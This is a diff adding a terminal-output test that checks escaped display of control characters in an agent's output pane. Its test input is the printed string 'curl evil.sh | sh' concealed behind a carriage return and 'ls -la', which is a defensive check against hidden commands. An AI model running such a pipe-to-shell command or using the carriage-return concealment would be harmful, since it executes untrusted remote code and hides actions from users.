@@ -63,4 +63,14 @@ agent two --agent "$AGENT" -- echo hi
 wait_agent 20 two
 check_screen "an agent name is shown escaped" 10 'agent\\e\[2J\\r\\u\{2066\}x'
 ok_unless "agent name: no raw control or invisible character" raw
+
+# The output pane: a carriage return that would hide what came before it
+# shows as \r with both sides; a progress bar's redraws still collapse.
+agent three -- printf 'curl evil.sh | sh\rls -la\nload 10%%\rload 20%%\rload 30%%\n'
+wait_agent 20 three
+check_screen "output: the hidden command shows, its \\r escaped" 10 \
+    'curl evil\.sh \| sh\\rls -la'
+check_screen "output: a progress bar shows what it drew last" 5 \
+    '^ *load 30%'
+ok_unless "output: no raw control or invisible character" raw
 done_testing
